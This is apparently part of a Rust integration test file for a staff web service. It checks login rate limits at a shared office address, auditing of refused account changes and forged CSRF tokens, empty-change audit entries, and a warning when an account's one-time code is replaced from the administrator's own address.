        for i in 0..noticecast::service::domain::limits::ADDRESS_FAILURES {
            login_from(&h, &format!("guess{i}"), "not the password", office_nat).await;
        }
        let r = login_from(&h, "guess-more", "not the password", office_nat).await;
        assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS);
        let r = login_from(&h, "newcomer", &code, office_nat).await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    });
}

/// "The sysadmin tried to disable the secadmin, reset the auditor, grant an editor a role: three
/// 403s, nothing in the audit log": a refusal a handler decides is audited like the gate's (an
/// `access.denied` entry with result failure, folded per route and minute), from the API and
/// the console.
#[test]
fn refused_changes_to_other_accounts_are_audited() {
    let h = office();
    run(async {
        let sysadmin = h.login("admin").await;
        let denied = |h: &Harness| {
            audit(h)
                .into_iter()
                .filter(|e| e.action == "access.denied")
                .collect::<Vec<_>>()
        };
        for (name, change) in [
            ("安全员", json!({"disabled": true})),
            ("审计员", json!({"reset_password": true})),
            ("王芳", json!({"role": "reviewer"})),
        ] {
            let r = h
                .put(
                    &format!("/api/users/{}", urlencode(name)),
                    &sysadmin,
                    change,
                )
                .await;
            assert_eq!(r.status, StatusCode::FORBIDDEN, "{name}: {}", r.text());
        }
        let entries = denied(&h);
        assert_eq!(entries.len(), 1, "folded per route and minute: {entries:?}");
        assert_eq!(entries[0].actor, "admin");
        assert_eq!(entries[0].subject, "PUT /api/users/{name}");
        assert_eq!(entries[0].result, "failure", "{entries:?}");
        assert!(
            entries[0].detail.contains("安全员"),
            "{}",
            entries[0].detail
        );
        assert!(
            !audit(&h).iter().any(|e| e.action == "user.change"),
            "no change recorded as done"
        );
        // The console's form, a minute later: another entry.
        h.advance(Duration::seconds(61));
        let r = h
            .send(console_form(&sysadmin, "/console/users/审计员", "reset=1"))
            .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text());
        let entries = denied(&h);
        assert!(
            entries
                .iter()
                .any(|e| e.subject == "POST /console/users/{name}" && e.result == "failure"),
            "{entries:?}"
        );
        assert!(
            entries
                .iter()
                .any(|e| e.detail.contains("refused 2 more times since")),
            "{entries:?}"
        );
        // A form or a request without the session's CSRF token: refused and audited too.
        let forged = Staff {
            cookie: sysadmin.cookie.clone(),
            csrf: "not the token".into(),
        };
        let r = h
            .send(console_form(&forged, "/console/users", "name=x"))
            .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN);
        let r = h.post("/api/users", &forged, json!({"name": "x"})).await;
        assert_eq!(r.status, StatusCode::FORBIDDEN);
        let csrf = denied(&h)
            .into_iter()
            .filter(|e| e.detail.contains("csrf") || e.detail.contains("CSRF"))
            .count();
        assert_eq!(csrf, 2, "{:?}", denied(&h));
    });
}

/// A console form posted as `staff`.
fn console_form(staff: &Staff, path: &str, fields: &str) -> Request<Body> {
    Request::post(path)
        .header(header::COOKIE, &staff.cookie)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(format!("csrf={}&{fields}", staff.csrf)))
        .unwrap()
}

/// "`PUT /api/users/aud {}` writes a successful `user.change` with an empty detail": nothing
/// changed, nothing written.
#[test]
fn an_empty_change_writes_no_success_entry() {
    let h = office();
    run(async {
        let sysadmin = h.login("admin").await;
        let secadmin = h.login("安全员").await;
        let before = audit(&h).len();
        let r = h
            .put(
                &format!("/api/users/{}", urlencode("审计员")),
                &sysadmin,
                json!({}),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        let r = h
            .put(
                &format!("/api/users/{}", urlencode("王芳")),
                &secadmin,
                json!({"role": "editor", "disabled": false}),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        let after = audit(&h);
        assert_eq!(after.len(), before, "{:?}", &after[..after.len() - before]);
        // A reset is one entry, `user.reset`, and no empty `user.change` beside it.
        let r = h
            .put(
                &format!("/api/users/{}", urlencode("王芳")),
                &sysadmin,
                json!({"reset_password": true}),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        let actions: Vec<String> = audit(&h)[..audit(&h).len() - before]
            .iter()
            .map(|e| e.action.clone())
            .collect();
        assert_eq!(actions, ["user.reset"]);
    });
}

/// A session from a login reply.
fn staff_of(r: &common::service::Reply) -> Staff {
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    let cookie = r.headers[header::SET_COOKIE].to_str().unwrap();
    Staff {
        cookie: cookie.split(';').next().unwrap().to_string(),
        csrf: r.json()["csrf_token"].as_str().unwrap().to_string(),
    }
}

/// `PUT /api/me/password` from `address`.
async fn change_password_from(
    h: &Harness,
    who: &Staff,
    current: &str,
    new: &str,
    address: &str,
) -> StatusCode {
    let mut request = Request::put("/api/me/password")
        .header(header::COOKIE, &who.cookie)
        .header("x-csrf-token", &who.csrf)
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(
            json!({"current": current, "new": new}).to_string(),
        ))
        .unwrap();
    let peer: SocketAddr = format!("{address}:40000").parse().unwrap();
    request.extensions_mut().insert(ConnectInfo(peer));
    h.send(request).await.status
}

/// "The sysadmin resets `rev`, logs in with the code, sets a password, and the secadmin grants
/// the role again seeing nothing": the grant form (console and `GET /api/users`) says who reset
/// or created an account waiting for a role, when and from which address its code was replaced,
/// and warns when that address is one the administrator has logged in from.
#[test]
fn the_grant_form_shows_where_a_code_was_replaced_and_warns_when_it_was_the_administrators_address()
{
    let h = office();
    run(async {
        let sysadmin = login_with(&h, "admin", PASSWORD).await; // from 192.0.2.1
        let secadmin = h.login("安全员").await;
        let mut codes = Vec::new();
        for name in ["李审核", "王芳"] {
            let r = h
                .put(
                    &format!("/api/users/{}", urlencode(name)),
                    &sysadmin,
                    json!({"reset_password": true}),
                )
                .await;
            assert_eq!(r.status, StatusCode::OK, "{}", r.text());
            codes.push(r.json()["one_time_code"].as_str().unwrap().to_string());
        }
        // The sysadmin uses 李审核's code from his own desk; 王芳 uses hers from hers.
        for (name, code, address) in [
            ("李审核", &codes[0], "192.0.2.1"),
            ("王芳", &codes[1], "198.51.100.30"),
        ] {
            let me = staff_of(&login_from(&h, name, code, address).await);
            assert_eq!(
                change_password_from(&h, &me, code, "a brand new secret", address).await,
                StatusCode::NO_CONTENT
            );
        }
        let listed = h.get("/api/users", &secadmin).await.json();
        let of = |name: &str| {
            listed
                .as_array()
                .unwrap()
                .iter()
                .find(|u| u["name"] == name)
                .unwrap()["handover"]
                .clone()
        };
        let taken = of("李审核");
        assert_eq!(taken["by"], "admin", "{taken}");
        assert_eq!(taken["action"], "user.reset", "{taken}");
        assert_eq!(taken["replaced_from"], "192.0.2.1", "{taken}");
        assert!(taken["replaced_at"].is_string(), "{taken}");
        assert_eq!(taken["from_administrators_address"], true, "{taken}");
        let own = of("王芳");
        assert_eq!(own["replaced_from"], "198.51.100.30", "{own}");
        assert_eq!(own["from_administrators_address"], false, "{own}");
        assert!(of("安全员").is_null(), "only accounts waiting for a role");
        let page = h.get("/console/users", &secadmin).await.text();
        assert_eq!(
            page.matches("注意：替换一次性密码的地址").count(),
            1,
            "{page}"
        );
        assert!(page.contains("从 198.51.100.30 被替换"), "{page}");
        assert!(page.contains("admin 重置密码于"), "{page}");
    });
}

/// A login from `address` with the browser's cookies `cookies` (`nc_device=…`); the reply.
async fn login_with_cookies(
    h: &Harness,
    name: &str,
    password: &str,
    address: &str,
    cookies: &str,
) -> common::service::Reply {
    let mut request = Request::post("/api/login")
        .header(header::CONTENT_TYPE, "application/json")
        .header(header::COOKIE, cookies)
        .body(Body::from(
            json!({"name": name, "password": password}).to_string(),
        ))
        .unwrap();
    let peer: SocketAddr = format!("{address}:40000").parse().unwrap();
    request.extensions_mut().insert(ConnectInfo(peer));
    h.send(request).await
}

/// "Someone at the same NAT can guess a colleague's password once every 3 s with no lockout":
/// the name at an address it logged in from is locked there after `KNOWN_PAIR_FAILURES` wrong
/// passwords from browsers that never logged in as it, while its owner's browser (the
/// `nc_device` cookie it got at login) is held back only by its own failures.
#[test]
fn a_colleague_at_the_same_address_guesses_a_known_users_password_a_bounded_number_of_times() {
    let h = office();
    run(async {
        use noticecast::service::domain::limits::KNOWN_PAIR_FAILURES;
        let office_nat = "198.51.100.40";
        let r = login_from(&h, "王芳", PASSWORD, office_nat).await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        let device = r
            .headers
            .get_all(header::SET_COOKIE)
            .iter()
            .filter_map(|v| v.to_str().ok())
            .find(|v| v.starts_with("nc_device="))
            .expect("a device cookie")
            .split(';')
            .next()
            .unwrap()
            .to_string();
        for i in 0..KNOWN_PAIR_FAILURES {
            let r = login_from(&h, "王芳", "a guess", office_nat).await;
            assert_eq!(r.status, StatusCode::UNAUTHORIZED, "{i}");
        }
        let r = login_from(&h, "王芳", "a guess", office_nat).await;
        assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS, "{}", r.text());
        // Her browser: in, at once, and it sets no new device cookie.
        let r = login_with_cookies(&h, "王芳", PASSWORD, office_nat, &device).await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        assert_eq!(r.headers.get_all(header::SET_COOKIE).iter().count(), 1);
        // A forged or stale device cookie is no key.
        let r = login_with_cookies(&h, "王芳", "a guess", office_nat, "nc_device=forged").await;
        assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS, "{}", r.text());
    });
}
